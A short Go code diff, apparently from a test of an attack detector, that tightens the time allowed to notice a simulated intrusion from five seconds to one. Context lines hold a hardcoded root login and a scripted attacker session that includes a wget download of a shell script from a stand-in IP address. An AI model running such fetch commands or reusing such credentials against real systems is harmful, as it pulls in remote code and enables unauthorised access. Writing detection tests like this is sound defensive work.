@@ -14,9 +14,8 @@ import (
 const (
 	username = "root"
 	secret   = "Summer2026!"
-	// soon bounds how late an attack may be seen. The aim is a second, and the
-	// log says what it was; the rest is for machines that are busy with others.
-	soon = 5 * time.Second
+	// soon is how fast an attack is to be seen.
+	soon = time.Second
 )
 
 var script = []string{"id", "uname -a", "wget http://198.51.100.7/x.sh", "exit"}
